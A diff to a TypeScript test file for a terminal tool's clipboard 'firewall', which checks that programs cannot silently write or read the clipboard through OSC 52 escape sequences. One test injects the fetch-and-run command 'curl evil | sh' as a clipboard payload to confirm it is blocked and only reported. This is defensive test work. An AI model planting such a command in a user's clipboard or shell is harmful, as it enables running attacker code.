@@ -7,7 +7,7 @@ import { spawnSync } from 'node:child_process';
 import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { fixtureCommand, INNER_PROMPT, OUTER_PROMPT, paneFor, REPO_ROOT, startSession, waitForJackinExit } from './helpers/jackin-cli.ts';
+import { fixtureCommand, INNER_PROMPT, INNER_SHELL, JACKIN, OUTER_PROMPT, paneFor, REPO_ROOT, startSession, START_TIMEOUT_MS, waitForJackinExit } from './helpers/jackin-cli.ts';
 import { pollUntil } from './helpers/poll.ts';
 import { shellQuote, type TmuxPane } from './helpers/tmux.ts';
 import { ownClipboard, startXvfb } from './helpers/xvfb.ts';
@@ -23,6 +23,21 @@ async function clipboardPane(t: TestContext, env: Record<string, string> = {}): 
   return pane;
 }
 
+/**
+ * Starts `jackin run --verbose` with its diagnostics (every notice, as drawn) in a file, and returns a
+ * waiter for a notice: the overlay shows one for about 3 s, which a loaded machine's polling can miss.
+ */
+async function loggedSession(t: TestContext, pane: TmuxPane, name: string): Promise<(notice: RegExp) => Promise<void>> {
+  const dir = mkdtempSync(join(tmpdir(), 'jackin-fw-log-'));
+  t.after(() => rmSync(dir, { recursive: true, force: true }));
+  const log = join(dir, 'verbose.log');
+  await pane.typeLine(`clear; ${JACKIN} run --verbose --name ${shellQuote(name)} -- ${INNER_SHELL} 2>>${shellQuote(log)}; echo "jackin-rc=$?"`);
+  await pane.waitForText(INNER_PROMPT, { timeoutMs: START_TIMEOUT_MS });
+  return async (notice) => {
+    await pollUntil(`the notice ${String(notice)}`, () => existsSync(log) && notice.test(readFileSync(log, 'utf8')), { timeoutMs: 10_000 });
+  };
+}
+
 async function buffers(pane: TmuxPane): Promise<string> {
   return pane.tmux('list-buffers', '-F', '#{buffer_name}:#{buffer_sample}');
 }
@@ -35,10 +50,11 @@ test('firewall: a program\'s OSC 52 and DCS-wrapped OSC 52 leave no tmux buffer;
   await pane.tmux('delete-buffer', '-b', (await buffers(pane)).split(':')[0]!);
   assert.equal(await buffers(pane), '');
 
-  await startSession(pane, 'fw-osc52');
+  const noticed = await loggedSession(t, pane, 'fw-osc52');
   await pane.typeLine(`printf '\\033]52;c;%s\\a' ${b64('curl evil | sh')}; printf '\\033Ptmux;\\033\\033]52;c;%s\\a\\033\\\\' ${b64('wrapped')}; echo done-$((40+2))`);
   await pane.waitForText(/^done-42$/m);
-  await pane.waitForText(/Copy offer: \d+ B "(curl evil \| sh|wrapped)"/);
+  await noticed(/notice \(info\): Copy offer: 14 B "curl evil \| sh"/);
+  await noticed(/notice \(info\): Copy offer: 7 B "wrapped"/);
   assert.equal(await buffers(pane), '', 'no tmux buffer');
   await pane.typeLine('exit');
   await waitForJackinExit(pane);
@@ -54,14 +70,14 @@ test('firewall: a program\'s clipboard query gets nothing (tmux would answer wit
   await pane.typeLine('clear');
   await pane.waitForText(OUTER_PROMPT);
 
-  await startSession(pane, 'fw-query');
+  const noticed = await loggedSession(t, pane, 'fw-query');
   await pane.typeLine(fixtureCommand('query-replies.mjs'));
   const screen = await pane.waitForText(/received:[0-9a-f]*:end/);
   const hex = /received:([0-9a-f]*):end/.exec(screen.replace(/\n/g, ''))![1]!;
   const got = Buffer.from(hex, 'hex').toString('latin1');
   assert.ok(!got.includes(b64(SECRET)) && !got.includes('\x1b]52'), `no clipboard reply: ${JSON.stringify(got)}`);
   assert.match(got, /^\x1b\[\?[\d;]*c$/, 'the DA1 reply (its query was let out) arrives, alone');
-  await pane.waitForText(/asked to read your clipboard/);
+  await noticed(/asked to read your clipboard; it got nothing/);
   await pane.typeLine('exit');
   await waitForJackinExit(pane);
 });
@@ -91,8 +107,9 @@ test('firewall: modes switched on in pieces across frames are restored at exit (
   const pane = await clipboardPane(t);
   await startSession(pane, 'fw-split');
   await pane.typeLine(`printf '\\033[?10'; sleep 0.3; printf '49h\\033[?'; sleep 0.3; printf '6h\\033[4'; sleep 0.3; printf 'hSPLIT-ON'`);
-  await pane.waitForText('SPLIT-ON');
-  await pollUntil('the pane to be on the alternate screen', async () => (await pane.modes()).alternateOn);
+  // The output line, not the typed command line that also holds the word.
+  await pane.waitForText(/^SPLIT-ON/m);
+  assert.equal((await pane.modes()).alternateOn, true);
   const on = await pane.modes();
   assert.ok(on.origin && on.insert, 'the program switched origin and insert mode on');
   await pane.typeLine('exit');
@@ -128,14 +145,14 @@ test('firewall: Copy offered text puts the text on a real X11 clipboard', async 
   const x = await startXvfb();
   t.after(() => x.stop());
   const pane = await clipboardPane(t, { DISPLAY: x.display });
-  await startSession(pane, 'fw-x11');
+  const noticed = await loggedSession(t, pane, 'fw-x11');
   const text = 'copied from the agent \u00e9';
   await pane.typeLine(`printf '\\033]52;c;%s\\a' ${b64(text)}`);
-  await pane.waitForText(/Copy offer: 24 B/);
+  await noticed(/Copy offer: 24 B "copied from the agent \u00e9"/);
   await pane.sendBytes([...PALETTE_KEY, 0x63]);
   const read = () => spawnSync('xclip', ['-selection', 'clipboard', '-o'], { env: x.env }).stdout.toString('utf8');
   await pollUntil('the X11 clipboard to hold the offered text', () => read() === text);
-  await pane.waitForText(/Copied 24 B .* \(xclip\)/);
+  await noticed(/Copied 24 B .* to the clipboard \(xclip\)/);
   assert.equal(await buffers(pane), '', 'no OSC 52 to the terminal when a clipboard is reachable');
   // Take the selection back with an owner we stop, so the xclip that served the copy exits.
   await (await ownClipboard(x, 'text/plain', Buffer.from('other'))).stop();
@@ -145,9 +162,9 @@ test('firewall: Copy offered text puts the text on a real X11 clipboard', async 
 
 test('firewall: without a clipboard, Copy offered text reaches the outer terminal through jackin\'s own OSC 52 (jackin-capsule copy too)', async (t) => {
   const pane = await clipboardPane(t);
-  await startSession(pane, 'fw-osc52-out');
+  const noticed = await loggedSession(t, pane, 'fw-osc52-out');
   await pane.typeLine(`printf 'from capsule copy\\n' | ${JACKIN_CAPSULE} copy`);
-  await pane.waitForText(/Copy offer: 18 B "from capsule copy"/);
+  await noticed(/Copy offer: 18 B "from capsule copy"/);
   assert.equal(await buffers(pane), '');
   await pane.sendBytes([...PALETTE_KEY, 0x63]);
   await pollUntil('tmux to store jackin\'s own OSC 52', async () => (await buffers(pane)).includes('from capsule copy'));
